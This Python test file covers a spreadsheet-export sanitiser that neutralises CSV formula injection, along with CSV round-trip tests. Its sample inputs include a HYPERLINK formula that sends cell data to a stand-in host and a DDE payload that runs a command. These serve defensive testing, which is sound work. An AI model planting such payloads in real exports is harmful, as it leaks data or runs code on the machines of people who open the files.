"""Text stays text in a spreadsheet program, whoever wrote it."""

import csv
import io
from datetime import date
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ciberaula.errors import UserError
from ciberaula.spreadsheet import LONGEST_TEXT, Cell, csv_bytes, looks_like_formula, original_text, safe_cell, write_csv

FORMULAS = [
    '=HYPERLINK("https://malo.example/?"&A2,"Ana")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\x00=1+1",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_a_text_that_begins_as_a_formula_gets_an_apostrophe(text):
    safe = str(safe_cell(text))
    assert safe == "'" + text.replace("\x00", "")
    assert safe_cell(safe) == safe
    assert original_text(safe) == text.replace("\x00", "")


@pytest.mark.parametrize("text", ["Ana Núñez", "5-3", "a=b", "'comillas'", "-", "", "ana@ejemplo.ec", "O'Brien"])
def test_other_texts_are_left_as_they_are(text):
    assert safe_cell(text) == text
    assert original_text(text) == text


def test_numbers_and_dates_stay_what_they_are():
    for value in (-5, -2.5, 0, True, Decimal("-1.5"), date(2026, 3, 2), None):
        assert safe_cell(value) is value
    assert [safe_cell(value) for value in (float("nan"), float("inf"), Decimal("-Infinity"))] == [None, None, None]


@given(st.text())
def test_no_text_comes_out_as_a_formula(text):
    safe = safe_cell(text)
    assert isinstance(safe, str)
    assert not looks_like_formula(safe)
    assert safe_cell(safe) == safe


def test_a_text_longer_than_a_cell_is_cut():
    assert len(str(safe_cell("=" * 100_000))) == LONGEST_TEXT


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_no_cell_of_a_csv_file_begins_a_formula_however_it_is_cut(rows):
    """Excel in Spanish cuts at semicolons, and at line ends within quotes that it no longer sees as such."""
    text = csv_bytes(["a", "b"], rows).decode("utf-8-sig")
    for line in text.replace("\r", "\n").split("\n"):
        for cell in line.split(";"):
            # A dash alone is Moodle's «no mark»; before a comma no program takes it for a formula.
            assert not looks_like_formula(cell.lstrip('"').removeprefix("-,")), cell


def test_a_csv_file_is_read_back_the_same(tmp_path):
    path = tmp_path / "notas.csv"
    rows: list[list[Cell]] = [["ana", "Núñez, «Ana»", -2.5, None], ["luis", 'dice "sí"\ny no', 3, True]]
    write_csv(path, ["id", "nombre", "puntos", "ñ"], rows)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,nombre,puntos,\xc3\xb1\r\n")
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert back[1:] == [["ana", "Núñez, «Ana»", "-2.5", ""], ["luis", 'dice "sí"\ny no', "3", "True"]]
    frame = pd.read_csv(path, encoding="utf-8-sig")
    assert list(frame["puntos"]) == [-2.5, 3]


def test_a_row_of_another_length_is_a_mistake_of_ours(tmp_path):
    with pytest.raises(ValueError, match="1 cells for 2 columns"):
        write_csv(tmp_path / "notas.csv", ["a", "b"], [["solo"]])
    assert list(tmp_path.iterdir()) == []


def test_a_place_that_cannot_be_written_is_one_line(tmp_path):
    with pytest.raises(UserError, match=r"^No se pudo guardar .*notas\.csv: no existe; revise la ruta\.$"):
        write_csv(tmp_path / "falta" / "notas.csv", ["a"], [])
